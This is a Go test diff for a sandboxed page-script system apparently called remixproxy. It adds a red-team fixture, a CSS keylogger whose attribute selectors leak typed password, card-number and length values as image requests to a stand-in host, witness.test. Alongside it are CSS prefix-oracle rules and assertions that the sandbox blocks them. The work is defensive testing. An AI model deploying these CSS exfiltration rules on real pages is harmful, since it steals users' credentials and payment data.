@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"net/http"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -12,6 +13,7 @@ import (
 	"github.com/chromedp/chromedp"
 
 	"github.com/remixproxy/remixproxy/e2e/e2etest"
+	"github.com/remixproxy/remixproxy/sandbox"
 	"github.com/remixproxy/remixproxy/store"
 )
 
@@ -60,6 +62,7 @@ await rmx.storage.set('read', learned.join(''));`},
 	{name: "prefix oracle by style.css and a layout read", style: `#wrap[data-typed^="h"] { width: 123px !important }
 #user:is(form:has(#card[data-value^="4"]) *) { width: 77px !important }
 #wrap[data-typed*="ter"] + #card { width: 99px !important }`,
+		wantLog: `(?s)refused: style.css 1:7: selectors may not compare the value of attribute data-typed.*refused: style.css 2:25: selectors may not compare the value of attribute data-value.*refused: style.css 3:7:`,
 		body: `await dom.waitFor('#go', { timeout: 60000 });
 const out = [];
 for (const sel of ['#wrap', '#user', '#card']) {
@@ -86,8 +89,27 @@ await rmx.storage.set('read', got);`},
 		body: `await dom.waitFor('#go', { timeout: 60000 });
 let h = '';
 try { h = String((await dom.rect(await dom.query('#pwlen'))).height); } catch (e) { h = 'refused'; }
-await rmx.storage.set('read', h);`},
+await rmx.storage.set('read', h);`,
+		wantLog: `refused: style.css 1:8: selectors may not compare the value of attribute data-len`},
+	// The control: what a legitimate remixlet does on such a page still works — layout before
+	// anything is typed, presence tests, test ids, comparable attributes, ordinary attributes.
+	{name: "a legitimate remixlet", style: `[data-testid="login"] #user { outline: 1px solid rgb(1, 2, 3) }`,
+		body: `const out = [];
+out.push((await dom.rect(await dom.query('#user'))).width);
+out.push(!!(await dom.query('form[data-testid="login"] input[name^="us"]')), !!(await dom.query('[data-typed]')));
+await dom.waitFor('#go', { timeout: 60000 });
+out.push(await dom.attr(await dom.query('#user'), 'name'), await dom.value(await dom.query('#user')));
+await rmx.storage.set('read', out.join(','));`},
 }
+
+// rtFieldsKeylogger is the CSS keylogger of a remixlet that holds a fetch: permission (a channel
+// by design): rules on the page's mirror that load from the permitted host; and a control rule
+// that shows the channel is open.
+const rtFieldsKeylogger = `#wrap[data-typed$="2"] { background-image: url(https://witness.test/k/2) }
+#wrap[data-typed^="h"] { border-image-source: url(https://witness.test/k/h) }
+#card[data-value*="4111"] { background-image: url(https://witness.test/k/4111) }
+#pwlen[data-len="7"] { background-image: url(https://witness.test/k/len7) }
+h1 { background-image: url(https://witness.test/control-css) }`
 
 // rtFieldsShadowCases run on /shadow, whose only sensitive fields are inside shadow roots: each
 // measures once before the person types and once after; the two must not differ.
@@ -138,7 +160,7 @@ func rtFieldsSite(nCases, nShadow int) http.Handler {
 <html><head><meta charset="utf-8"><title>Sign in</title>
 <style>input { width: 150px; box-sizing: border-box } #wrap { width: 200px } #pwlen { height: 10px }</style></head>
 <body><h1>Sign in</h1>
-<form id="form" action="/login" onsubmit="return false">
+<form id="form" action="/login" onsubmit="return false" data-testid="login">
 <input id="user" name="user" value="alice">
 <div id="wrap" class="field" data-typed=""><input id="pw" type="password" name="pw" data-value=""></div>
 <input id="card" name="cardnumber" autocomplete="off" data-value="">
@@ -253,6 +275,10 @@ func TestRedteamFieldMirrorsTellRemixletsNothing(t *testing.T) {
 		"witness.test": wit,
 	})
 	rxs := h.addPolicy(rtFieldsCases, "https://fields.test/mirror*")
+	saveUnchecked(t, h.st, "keylogger", store.Files{
+		sandbox.ManifestFile: []byte(`{"name": "keylogger", "description": "Hostile remixlet for the e2e suite.", "api": 1, "matches": ["https://fields.test/mirror*"], "permissions": [{"name": "fetch:witness.test", "reason": "prices"}]}`),
+		sandbox.StyleFile:    []byte(rtFieldsKeylogger),
+	})
 	h.rtFieldsRun("https://fields.test/mirror", rtFieldsCases, rxs, [][2]string{
 		{`document.getElementById('pw').focus()`, rtFieldsPassword},
 		{`document.getElementById('card').focus()`, rtFieldsCard},
@@ -277,7 +303,32 @@ func TestRedteamFieldMirrorsTellRemixletsNothing(t *testing.T) {
 	if v := read(4); v != "10" && v != "refused" {
 		t.Errorf("%s: the remixlet measured %q, want the page's own 10 or refused: the password's length\n%s", rtFieldsCases[4].name, v, h.diagnose(rxs[4]))
 	}
-	h.checkNoWitness("after the mirror cases")
+	if v := read(5); v != "150,true,true,user,alice" {
+		t.Errorf("%s: read %q, want \"150,true,true,user,alice\": the rules stopped a legitimate remixlet\n%s", rtFieldsCases[5].name, v, h.diagnose(rxs[5]))
+	}
+	if c := e2etest.Eval[string](h.tab, `getComputedStyle(document.getElementById('user')).outlineColor`); c != "rgb(1, 2, 3)" {
+		t.Errorf("the legitimate remixlet's test-id rule did not apply: outline colour %q", c)
+	}
+	for i, c := range rtFieldsCases {
+		if c.wantLog == "" {
+			continue
+		}
+		if log, ok := h.waitLog(rxs[i], regexp.MustCompile(c.wantLog), 5*time.Second); !ok {
+			t.Errorf("%s: the remixlet's log does not match %q:\n%s", c.name, c.wantLog, log)
+		}
+	}
+	// The keylogger's control rule loads (the channel is open), none of its mirror rules does.
+	for deadline := time.Now().Add(10 * time.Second); h.sites.Requests("witness.test", "/control-css") == 0; time.Sleep(100 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatalf("the keylogger's control rule never loaded from the witness: the zero count below proves nothing")
+		}
+	}
+	time.Sleep(500 * time.Millisecond)
+	for _, path := range h.wit.requests() {
+		if strings.Contains(path, "/k/") {
+			t.Errorf("the witness learned %s from the keylogger's stylesheet", path)
+		}
+	}
 }
 
 // TestRedteamShadowFieldsTellRemixletsNothing: sensitive fields inside shadow roots (open, and
